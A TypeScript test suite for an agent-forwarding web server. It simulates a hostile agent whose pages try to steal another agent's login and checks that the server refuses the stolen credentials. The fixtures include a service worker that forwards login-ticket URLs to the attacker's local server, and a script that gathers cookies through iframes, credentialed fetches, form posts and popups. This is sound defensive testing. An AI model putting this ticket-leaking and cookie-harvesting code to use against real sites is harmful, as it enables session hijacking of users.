import { createHash, randomBytes } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type IncomingMessage, request, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { type Access, openAccess } from "../../components/web/forwarding/program/auth/access.ts";
import { type Proxy as AgentProxy, createProxy } from "../../components/web/forwarding/program/proxy/proxy.ts";
import { createForwardingServer, type ForwardingServer } from "../../components/web/forwarding/program/server.ts";
import { openBrowser, type Person, type TestBrowser } from "../support/browser.ts";
import { portOf } from "../support/fault-proxy.ts";
import { ada, agentsOf, bob } from "../support/forwarding-site.ts";

/** Ada is an honest agent; bob's pages and server, on a port of localhost, try to get her login, or his own elsewhere. */

let browser: TestBrowser;
let folder: string;
let access: Access;
let proxy: AgentProxy;
let server: ForwardingServer;
let thief: Server;
let honest: Server;
let person: Person;
let page: Page;
/** What bob's server was asked, with the cookies that came along. */
let asked: { host: string; url: string; cookie: string; site: string }[];
/** What came of tickets that bob's worker passed on. */
let redeemed: number[];

beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser?.close());

beforeEach(async () => {
  [asked, redeemed] = [[], []];
  folder = mkdtempSync(join(tmpdir(), "theft-"));
  honest = createServer((_req, res) => res.setHeader("content-type", "text/html").end("<h1>ada</h1>"));
  thief = createServer(
    (req, res) => void answer(req).then(({ type, body }) => res.setHeader("content-type", type).end(body)),
  );
  for (const each of [honest, thief]) await new Promise<void>((resolve) => each.listen(0, "127.0.0.1", resolve));
  const agents = agentsOf([ada, bob]);
  agents.target = async (id) => {
    const port = portOf(id === ada.id ? honest : thief);
    return { kind: "online", url: new URL(`http://127.0.0.1:${port}/`) };
  };
  const ttl = { codeTtlSeconds: 900, cookieTtlSeconds: 3600 };
  access = openAccess({ folder, ...ttl, isSecure: false, hasAgentHosts: true, log: () => {} });
  proxy = createProxy(agents);
  const config = { version: 1, port: 0, host: "127.0.0.1", publicUrl: null, routing: "host", ...ttl } as const;
  server = await createForwardingServer({ config, access, agents, proxy, log: () => {} });
  person = await browser.newPerson();
  page = await person.newPage();
  for (const agent of [ada, bob]) {
    await page.goto(server.loginUrl(agent.id).url);
    // The first login leads straight to its agent.
    if (agent === ada) await page.waitForURL(`${own(ada)}/`);
    await page.goto(`${server.url}/`);
    await expect.poll(() => page.getByRole("listitem").getByRole("link", { name: agent.name }).count()).toBe(1);
  }
});
afterEach(async () => {
  await person?.context.close();
  await server?.close();
  proxy?.stop();
  for (const each of [honest, thief]) {
    each?.closeAllConnections();
    each?.close();
  }
  rmSync(folder, { recursive: true });
});

const own = (agent: typeof ada) => `http://${agent.id}.localhost:${server.port}`;
const heading = () => page.getByRole("heading", { level: 1 }).textContent();

async function answer(req: IncomingMessage): Promise<{ type: string; body: string }> {
  const { host = "", cookie = "", "sec-fetch-site": site = "" } = req.headers;
  const url = new URL(req.url ?? "/", "http://bob");
  asked.push({ host, url: url.pathname, cookie, site: String(site) });
  if (url.pathname === "/worker.js") return { type: "text/javascript", body: worker() };
  if (url.pathname === "/redeem") {
    const ticket = new URL(url.searchParams.get("url") ?? "");
    redeemed.push(await statusOf(ticket.pathname + ticket.search, { host: ticket.host, cookie }));
  }
  return { type: "text/html", body: "<h1>bob</h1>" };
}

/** Hands each ticket to bob's server before the browser gets to use it, and everything else on as many workers do. */
const worker = () => `
const port = "http://localhost:${portOf(thief)}";
addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const { url, mode } = event.request;
  const redeem = () => fetch(port + "/redeem?url=" + encodeURIComponent(url), { mode: "no-cors" });
  if (mode !== "navigate") return;
  event.respondWith((url.includes("ticket=") ? redeem() : Promise.resolve()).then(() => fetch(event.request)));
});
`;

/** A function of a page's script. */
const attempts = `async (main) => {
  const shown = (frame) => new Promise((resolve) => {
    frame.onload = resolve;
    document.body.append(frame);
  });
  const frame = (src) => shown(Object.assign(document.createElement("iframe"), { src }));
  await frame("/frame");
  await frame(main + "/");
  await fetch("/fetch", { credentials: "include" });
  for (const [path, method] of [["/", "GET"], ["/agents", "POST"], ["/enter", "POST"]])
    await fetch(main + path, { method, mode: "no-cors", credentials: "include" }).catch(() => {});
  const form = Object.assign(document.createElement("form"), { action: "/form", method: "post", target: "there" });
  document.body.append(form);
  const submitted = shown(Object.assign(document.createElement("iframe"), { name: "there" }));
  form.submit();
  await submitted;
  open("/popup");
}`;

/** As bob's server, or anybody's program, asks the forwarding server. */
function statusOf(path: string, headers: Record<string, string>, body?: object): Promise<number> {
  return new Promise((resolve, reject) => {
    const method = body === undefined ? "GET" : "POST";
    const all = { ...headers, ...(body === undefined ? {} : { "content-type": "application/json" }) };
    const options = { host: "127.0.0.1", port: server.port, path, method, headers: all, agent: false };
    const sent = request(options, (response) => {
      response.resume();
      resolve(response.statusCode ?? 0);
    });
    sent.once("error", reject).end(body && JSON.stringify(body));
  });
}

/** As a script of the page that is shown leads elsewhere. */
async function leave(url: string): Promise<void> {
  await page.evaluate(`location.assign(${JSON.stringify(url)})`);
}

/** So that the way over the main origin has to be taken again. */
async function forgetEntry(agent: typeof ada): Promise<void> {
  await person.context.clearCookies({ name: access.cookieName(agent.id, "agent"), domain: `.${agent.id}.localhost` });
}

async function click(name: string): Promise<void> {
  await page.goto(`${server.url}/`);
  await page.getByRole("listitem").getByRole("link", { name }).click();
  await expect.poll(heading).toBe(name);
}

describe("the main origin's cookies", () => {
  /** Every way that a page has to make the browser ask bob's own port of `localhost`. */
  async function collect(): Promise<string> {
    const port = `http://localhost:${portOf(thief)}`;
    await click("ada");
    await click("bob");
    // One step, then from there on, as a page of the same site as the main origin.
    await leave(`${port}/first`);
    await page.waitForURL(`${port}/first`);
    const arrived = asked.filter(({ url }) => url === "/first").map(({ cookie }) => cookie);
    expect(arrived).toEqual([""]);
    await leave(`${port}/second`);
    await page.waitForURL(`${port}/second`);
    await page.evaluate(`(${attempts})(${JSON.stringify(server.url)})`);
    const collected = () => asked.filter(({ host }) => host.startsWith("localhost:"));
    const ways = ["/second", "/frame", "/fetch", "/form", "/popup"];
    await expect.poll(() => collected().map(({ url }) => url)).toEqual(expect.arrayContaining(ways));
    return [...new Set(collected().flatMap(({ cookie }) => cookie.split("; ")))]
      .filter((each) => each !== "")
      .join("; ");
  }

  test("are sent to a port of bob, where they give access to nothing", async () => {
    const stolen = await collect();
    // They did arrive: browsers know no ports in cookies.
    expect(stolen.split("; ").length).toBe(2);
    for (const agent of [ada, bob]) expect(stolen).not.toContain(agent.id);
    const main = { host: `localhost:${server.port}`, cookie: stolen, accept: "text/html" };
    for (const agent of [ada, bob]) {
      const session = access.session(agent.id, "main", stolen);
      // The cookies are good ones; what lacks is the key.
      expect(session).toBeDefined();
      const from = `/${agent.id}/__changelings/enter?to=/&browser=${"b".repeat(43)}`;
      const keys = ["", "k".repeat(43), stolen.slice(-43)];
      for (const key of keys) expect(await statusOf("/enter", main, { agent_id: agent.id, key, from })).toBe(403);
      expect(await statusOf("/", { host: `${agent.id}.localhost:${server.port}`, cookie: stolen })).toBe(401);
    }
  });

  test("still work for the user with their keys: list, typed addresses, links, logout, login", async () => {
    await collect();
    await page.goto(`${server.url}/`);
    await expect.poll(() => page.getByRole("listitem").getByRole("link").allTextContents()).toEqual(["ada", "bob"]);
    await page.goto(`${server.url}/${ada.id}/deep?x=1`);
    await page.waitForURL(`${own(ada)}/deep?x=1`);
    await page.goto(`${own(bob)}/typed`);
    expect(page.url()).toBe(`${own(bob)}/typed`);
    // A link on a page of another site brings none of the cookies along.
    await leave(`${server.url}/${ada.id}/linked`);
    await page.waitForURL(`${own(ada)}/linked`);
    await leave(`${server.url}/`);
    await expect.poll(() => page.getByRole("listitem").getByRole("link").allTextContents()).toEqual(["ada", "bob"]);
    // Without the cookie of the agent's own origin the way is longer.
    await forgetEntry(ada);
    await page.goto(`${own(ada)}/again`);
    await expect.poll(heading).toBe("ada");
    expect(page.url()).toBe(`${own(ada)}/again`);

    await page.goto(`${own(ada)}/__changelings/logout`);
    await page.waitForURL(`${server.url}/logout?agent_id=${ada.id}`);
    await page.getByRole("button", { name: "Log out" }).click();
    await expect.poll(() => page.getByRole("listitem").getByRole("link").allTextContents()).toEqual(["bob"]);
    await page.goto(`${own(ada)}/`);
    await page.waitForURL(`${server.url}/`);
    await page.goto(server.loginUrl(ada.id).url);
    await expect.poll(() => page.getByRole("listitem").getByRole("link").allTextContents()).toEqual(["ada", "bob"]);
    await click("ada");
  });
});

describe("a ticket", () => {
  test("does not work for anybody else if bob's worker leaks it before it is used", async () => {
    await click("bob");
    await page.evaluate(
      `navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => 1)`,
    );
    // Links from the list go on by way of the worker.
    await click("bob");
    await forgetEntry(bob);
    await page.goto(`${own(bob)}/again`);
    await expect.poll(() => page.url()).toBe(`${own(bob)}/again`);
    expect(redeemed).toEqual([403]);
  });

  test("is not issued for another browser on request of bob's page", async () => {
    await click("bob");
    const other = createHash("sha256").update(randomBytes(32).toString("base64url")).digest("base64url");
    await page.goto(`${own(bob)}/`);
    const enter = `${server.url}/${bob.id}/__changelings/enter?to=/&browser=${other}`;
    await leave(enter);
    await expect
      .poll(() => page.locator("main p").first().textContent())
      .toContain("something else tries to use your login");
    expect(page.url()).toBe(enter);
    // The person goes on as before.
    await click("bob");
  });
});

test("the browser runs the pages of two sites in two processes", async () => {
  await click("bob");
  await page.evaluate(`new Promise((resolve) => {
    const src = "http://localhost:${portOf(thief)}/";
    document.body.append(Object.assign(document.createElement("iframe"), { src, onload: resolve }));
  })`);
  const [own, foreign] = page.frames();
  if (own === undefined || foreign === undefined) throw new Error("there is no frame");
  // Only a frame in a process of its own has a session of its own.
  await (await person.context.newCDPSession(foreign)).detach();
  expect(own).toBe(page.mainFrame());
});

describe("the servers of one agent", () => {
  const fetched = (url: string) => {
    const ask = `fetch(${JSON.stringify(url)}, { credentials: "include", headers: { "x-own": "1" } })`;
    return page.evaluate(`${ask}.then((response) => response.text(), (error) => error.name)`);
  };

  test("share one login, and other agents' pages can neither read nor frame them", async () => {
    const api = `http://api.${ada.id}.localhost:${server.port}/data`;
    await click("ada");
    expect(await fetched(api)).toBe("<h1>ada</h1>");
    await click("bob");
    expect(await fetched(api)).toBe("TypeError");
    expect(await fetched(`${own(ada)}/`)).toBe("TypeError");
    await page.evaluate(`new Promise((resolve) => {
      const frame = Object.assign(document.createElement("iframe"), { src: ${JSON.stringify(`${own(ada)}/`)}, onload: resolve });
      document.body.append(frame);
    })`);
    await expect.poll(() => page.frames().length).toBe(2);
    expect(await page.frames()[1]?.content()).not.toContain("<h1>ada</h1>");
  });
});
